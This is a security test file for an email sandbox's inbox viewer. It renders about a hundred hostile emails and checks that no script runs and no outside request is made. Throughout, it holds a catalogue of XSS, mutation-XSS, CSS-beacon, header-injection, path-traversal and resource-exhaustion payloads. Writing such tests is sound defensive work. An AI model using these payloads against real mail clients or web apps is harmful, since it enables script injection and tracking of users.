import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { chromiumMissing, size } from '@postmark-smtp/testing'
import { createTransport } from 'nodemailer'
import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { type Sandbox, startSandbox } from '../../sandbox.js'
import { launchBrowser } from '../../testing/inbox-browser.js'

const missing = chromiumMissing()
const skipped = missing !== undefined && process.env.REQUIRE_REAL_PARTS !== '1'
if (skipped) console.warn(`Skipped: ${missing}`)

/** The host that the hostile emails call, and how often somebody came. */
let visits = 0
const canary = createServer((_request, response) => response.end('console.log(/pwned/)'))
canary.on('connection', () => {
  visits += 1
})
let away: string
let sandbox: Sandbox
let browser: Browser
beforeAll(async () => {
  if (skipped) return
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
  away = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`
  sandbox = await startSandbox()
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
  await sandbox?.close()
  canary.close()
})

const RUN = 'globalThis.pwned=true;console.log(/pwned/)'
const b64 = (text: string) => Buffer.from(text).toString('base64')
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`

/** HTML parts; `away` is the canary. */
const markup = (away: string): readonly string[] => [
  `<script>${RUN}</script>`,
  `<script src="${away}/a.js"></script>`,
  `<script type="module">import '${away}/a.js'</script>`,
  `<meta http-equiv="refresh" content="0;url=${away}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'"><script>${RUN}</script>`,
  `<style>@import url(${away}/a.css); body { background: url(${away}/bg.png) }</style>`,
  `<link rel="stylesheet" href="${away}/a.css"><link rel="preload" as="script" href="${away}/b.js"><link rel="prefetch" href="${away}/c">`,
  `<link rel="dns-prefetch" href="${away}"><link rel="preconnect" href="${away}"><link rel="icon" href="${away}/i.ico"><link rel="manifest" href="${away}/m">`,
  `<style>@font-face { font-family: x; src: url(${away}/x.woff) } p { font-family: x }</style><p>x</p>`,
  `<img src="${away}/pixel.gif" srcset="${away}/2.gif 2x"><picture><source srcset="${away}/3.gif"><img></picture>`,
  `<img src=x onerror="${RUN}"><body onload="${RUN}"><p onmouseover="${RUN}">x</p>`,
  SVG,
  `<svg><image href="${away}/a.png"/><use href="${away}/a.svg#x"/><style>@import '${away}/b.css'</style><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<img src="data:image/svg+xml;base64,${b64(SVG)}">`,
  `<iframe src="${away}/frame"></iframe><iframe srcdoc="<script>top.pwned=true</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html;base64,${b64(`<script>${RUN}</script>`)}"></iframe>`,
  `<object data="${away}/o"></object><embed src="${away}/e"><applet code="${away}/p"></applet>`,
  `<object data="data:text/html;base64,${b64(`<script>${RUN}</script>`)}"></object>`,
  `<a id="hit" href="javascript:${RUN}">x</a>`,
  `<a id="hit" href="${away}/click">x</a>`,
  `<a id="hit" href="${away}/top" target="_top" ping="${away}/ping">x</a>`,
  `<a id="hit" href="data:text/html;base64,${b64(`<script>${RUN}</script>`)}" target="_self">x</a>`,
  `<base href="${away}/"><img src="a.png"><a id="hit" href="b">x</a>`,
  `<form action="${away}/form" method="post"><input name="a" value="b" autofocus onfocus="${RUN}"><button id="hit">x</button></form>`,
  `<form action="/clear" method="post" target="_top"><button id="hit">x</button></form>`,
  `<button id="hit" formaction="javascript:${RUN}">x</button><isindex action="${away}/i">`,
  `<video src="${away}/v.mp4" poster="${away}/p.png" autoplay onerror="${RUN}"></video><audio src="${away}/a.mp3" autoplay></audio><track src="${away}/t">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details><marquee onstart="${RUN}">x</marquee>`,
  `<p style="background:url(${away}/a);list-style:url('${away}/b');content:url(${away}/c);behavior:url(${away}/d)">x</p>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><template><script>${RUN}</script></template>`,
  `</iframe></main></body></html><script>${RUN}</script><textarea></textarea><script>${RUN}</script>`,
  `<frameset onload="${RUN}"><frame src="${away}/f"></frameset>`,
  `<table background="${away}/t.png"><tr><td background="${away}/u.png"></table><body background="${away}/v.png">`,
  '<div>'.repeat(100_000),
  `<${'a'.repeat(1_000_000)} onclick="${RUN}">${'&'.repeat(200_000)}`,
  `<p>${'x'.repeat(6_000_000)}</p>`,
  `\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt><script\u0000>${RUN}</script>`,
]

const html = (body: string, header = '') =>
  `${header}Content-Type: text/html; charset=utf-8\r\n\r\n${body.replace(/.{900}/g, '$&\r\n')}`
const evil = `"><script>${RUN}</script><img src=x onerror="${RUN}">`
const multipart = 'Content-Type: multipart/mixed; boundary=b\r\n\r\n'
const part = (header: string, body = 'x') => `--b\r\n${header}\r\n\r\n${body}\r\n`

/** Whole messages. */
const sources = (away: string): readonly string[] => [
  `Subject: ${evil}\r\nFrom: ${evil} <a@example.com>\r\nTo: '${evil}' <b@example.com>\r\nX-${evil}: ${evil}\r\n\r\n${evil}`,
  `X-PM-Tag: ${evil}\r\nX-PM-Metadata-a: ${evil}\r\nX-PM-Metadata-${evil}: x\r\nX-PM-Message-Stream: ${evil}\r\nX-PM-TrackLinks: ${evil}\r\n\r\nhttp://x/${evil} ${away}/${evil}`,
  `Subject: \u202Egnp.exe\u0007\u0000\u001b[31m\r\n\r\n\u0000\u202Ehello\u0007`,
  `X-Long: ${'y'.repeat(490_000)}\r\nSubject: ${'z'.repeat(490_000)}\r\n\r\nx`,
  `${'X-Many: 1\r\n'.repeat(9_999)}\r\nx`,
  `${multipart}${Array.from({ length: 1000 }, (_, i) => part(`Content-Disposition: attachment; filename="${i}.txt"`)).join('')}--b--`,
  `${multipart}${['a"b.html', "a'b.svg", 'a\\"\\r\\nSet-Cookie: a=b.html', '\u202Egnp.exe', `${evil}.html`, '../../../etc/passwd', 'x'.repeat(10_000)].map((name) => part(`Content-Type: text/html\r\nContent-Disposition: attachment; filename="${name}"`, `<script>${RUN}</script>`)).join('')}--b--`,
  `Content-Type: multipart/related; boundary=b\r\n\r\n${part('Content-Type: text/html', '<img src="cid:a"><object data="cid:b"></object><iframe src="cid:b"></iframe><img src="cid:__proto__">')}${part('Content-Type: image/svg+xml\r\nContent-ID: <a>', SVG)}${part('Content-Type: text/html\r\nContent-ID: <b>', `<script>${RUN}</script>`)}--b--`,
  `${Array.from({ length: 2000 }, (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`).join('')}Content-Type: text/html\r\n\r\n<script>${RUN}</script>`,
  `Content-Type: multipart/mixed; boundary="\r\nContent-Transfer-Encoding: base64\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
]

/** HTML for the tabs that read it, list its links and ask them, and show what came with it. */
const further = (away: string): readonly string[] => [
  ...[
    `<a href="${away}/link">${evil}</a>`,
    `<a href='${away}/"onmouseover="${RUN}'>x</a>`,
    `<a href="${away}/&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;">x</a>`,
    `<a href="https://x/${evil.replaceAll('"', "'")}">x</a>`,
    '<a href="http://[">x</a><a href="http://">x</a><a href="https:\\\\x">x</a>',
    `<a href=" http://127.0.0.1/">x</a><a href="HTTP://2130706433/">x</a>`,
    ...[
      'file:///etc/passwd',
      `data:text/html,<script>${RUN}</script>`,

      'java\nscript:x',
    ].map((url) => `<a href="${url}">x</a>`),
    '<a href="http://x">'.repeat(20_000),
    `<a ${'href="http://x" '.repeat(20_000)}>`,
    `<a href="http://${'x'.repeat(500_000)}">x</a>`,
    `<style>${'a{b:c('.repeat(100_000)}</style>`,
    `<style>@import url(${away}/i.css);@media (prefers-color-scheme: dark) { body { background: url(${away}/dark) } }</style>`,
    `<style>@media (prefers-color-scheme: dark) { </style><script>${RUN}</script><style> }</style>`,
    `<style>@font-face{font-family:x;src:url(${away}/f)}*{font-family:x}</style><style>${'/*'.repeat(300_000)}`,
    `<meta name="color-scheme" content="dark"><meta http-equiv="refresh" content="0;url=${away}/r">`,
    `${'<!--'.repeat(200_000)}<script>${RUN}</script>`,
    `<p style="${'x:y;'.repeat(100_000)}">`,
    `<p style="background:url(&quot;${away}/q&quot;)">x</p>`,
    `<p ${'a="'.repeat(100_000)}>`,
    `<${evil}>${evil}</${evil}>`,
    `</pre></main><script>${RUN}</script>`,
    `&lt;script&gt;${RUN}&lt;/script&gt;&#60;script&#62;${RUN}&#60;/script&#62;`,
    `<textarea></textarea></pre><img src=x onerror="${RUN}">`,
    `(prefers-color-scheme:${' '.repeat(200_000)}dark)`,
    `<img src="cid:a" onerror="${RUN}"><img src="data:text/html,<script>${RUN}</script>">`,
  ].map((body) => html(body)),
  ...[
    ['image/png', SVG],
    ['image/svg+xml', SVG],
    ['image/png', `\x89PNG<script>${RUN}</script>`],
    ['image/gif', `GIF89a/*<svg onload="${RUN}">*/=1;${RUN}`],
    ['image/jpeg', `\xff\xd8\xff<script>${RUN}</script>`],
    ['image/webp', `RIFFxxxxWEBP<script>${RUN}</script>`],
    ['text/html', `<script>${RUN}</script>`],
    ['text/plain', `</pre><script>${RUN}</script>`],
    ['text/csv', evil],
    ['application/json', `{"a":"</pre><script>${RUN}</script>"}`],
    ['application/xml', SVG],
    ['text/javascript', RUN],
    ['application/xhtml+xml', SVG],
    ['application/pdf', `%PDF-1.7 /JS (${RUN})`],
    ['text/plain', '\u202e\u0000\u0007'.repeat(1000)],
    [evil, evil],
  ].map(
    ([type = '', body = '']) =>
      `${multipart}${part(`Content-Type: ${type}\r\nContent-Disposition: attachment; filename="${evil.replaceAll('"', "'")}"`, body)}--b--`,
  ),
  ...['From', 'Reply-To', 'Cc', 'Bcc'].map(
    (name) => `${name}: "${evil.replaceAll('"', '\\"')}" <a@example.com>, ${evil}\r\n\r\n${away}/text`,
  ),
  `Cc: ${'a@example.com, '.repeat(10_000)}b@example.com\r\n\r\nx`,
  `From: ${'\u202e'.repeat(1000)} <a@example.com>\r\n\r\nx`,
  `X-PM-Tag: ${evil.repeat(10)}\r\n\r\n${'http://x/ '.repeat(10_000)}`,
]

async function send(raw: string): Promise<string> {
  const { host, port, token: user } = sandbox
  const transport = createTransport({ host, port, ignoreTLS: true, auth: { user, pass: user } })
  await transport.sendMail({
    envelope: { from: 'a@example.com', to: ['b@example.com'] },
    raw: Buffer.from(raw),
  })
  transport.close()
  return `mails/${sandbox.outbox.at(-1)?.messageId}`
}

const VIEWS = ['', '/html', '?part=text', '?part=headers', '?part=source', '?part=delivered']

const FURTHER_VIEWS = [
  ...['?part=html&width=phone&scheme=dark', '/html?scheme=dark', '/html?scheme=light', '?part=markup'],
  ...['?part=links', '?part=check'],
]

/** Whether a script of the email ran in any frame of a page. */
async function ran(page: Page): Promise<boolean> {
  return (await Promise.all(page.frames().map(ranIn))).includes(true)
}

/** A frame that may not load at all never answers; one that a click takes away from the email is asked again. */
function ranIn(frame: Frame): Promise<boolean> {
  const answer = frame
    .evaluate<boolean>('"pwned" in globalThis')
    .catch(() => !frame.isDetached() && ranIn(frame))
  return Promise.race([answer, setTimeout(1000, false, { ref: false })])
}

it.skipIf(skipped)(
  'renders 50 hostile emails and 50 more through the tabs that read them: no script runs, nothing is asked for elsewhere',
  { timeout: 600_000 },
  async () => {
    const context = await browser.newContext({ viewport: { width: 1000, height: 700 } })
    const page = await context.newPage()
    const elsewhere: string[] = []
    const dialogs: string[] = []
    const said: string[] = []
    const isElsewhere = (url: string) => !url.startsWith(sandbox.inboxUrl) && !/^(?:data|blob):/.test(url)
    context.on('response', (response) => {
      if (isElsewhere(response.url())) elsewhere.push(response.url())
    })
    // What a policy stops is told as a request that failed.
    context.on('requestfailed', (request) => {
      const { errorText } = request.failure() ?? {}
      if (isElsewhere(request.url()) && errorText !== 'csp' && errorText !== 'origin')
        elsewhere.push(`${request.url()} ${errorText}`)
    })
    context.on('console', (line) => {
      if (line.type() === 'log') said.push(line.text())
    })
    context.on('dialog', (dialog) => {
      dialogs.push(dialog.message())
      void dialog.dismiss()
    })
    const bodies = markup(away).map((body) => html(body))
    const mails = [...bodies, ...sources(away)]
    expect(mails).toHaveLength(50)
    // Every tenth in `npm test`.
    const chosen = [...mails.entries()].filter(
      ([index]) => index % (50 / size(50, 10)) === 2 % (50 / size(50, 10)),
    )

    for (const [index, raw] of chosen) {
      const path = await send(raw)
      for (const view of index < bodies.length ? ['', '/html', '?part=source'] : VIEWS) {
        const response = await page.goto(sandbox.inboxUrl + path + view)
        expect([index, view, response?.status()]).toEqual([index, view, 200])
        expect([index, view, await ran(page)]).toEqual([index, view, false])
        if (view === '' && raw.includes('id="hit"')) {
          await page.frameLocator('iframe').locator('#hit').click()
          expect([index, await ran(page)]).toEqual([index, false])
          expect(page.url()).toBe(sandbox.inboxUrl + path)
        }
      }
    }
    // And 50 more, through the tabs that do more with an email than show it.
    const more = further(away)
    expect(more).toHaveLength(50)
    const chosenMore = [...more.entries()].filter(([index]) => index % (50 / size(50, 10)) === 0)
    for (const [index, raw] of chosenMore) {
      const path = await send(raw)
      for (const view of FURTHER_VIEWS) {
        const response = await page.goto(sandbox.inboxUrl + path + view)
        expect([index, view, response?.status()]).toEqual([index, view, 200])
        expect([index, view, await ran(page)]).toEqual([index, view, false])
      }
      // What an attachment is shown as may be no document; a download is none at all.
      await page.goto(`${sandbox.inboxUrl}${path}/attachments/0?inline`).catch(() => undefined)
      expect([index, await ran(page)]).toEqual([index, false])
      await page.goto(`${sandbox.inboxUrl}${path}?part=links`)
      const check = page.getByRole('button', { name: 'Check the links' })
      if (index % 10 === 0 && (await check.count()) > 0) {
        await check.click()
        await page.getByRole('button', { name: 'Check the links again' }).waitFor()
        expect([index, await ran(page)]).toEqual([index, false])
      }
    }
    await page.goto(sandbox.inboxUrl)
    expect(await page.locator('.mails tbody tr').count()).toBe(chosen.length + chosenMore.length)
    expect(await ran(page)).toBe(false)
    expect({ elsewhere, dialogs, said, visits, pages: context.pages().length }).toEqual({
      elsewhere: [],
      dialogs: [],
      said: [],
      visits: 0,
      pages: 1,
    })
    await context.close()
  },
)
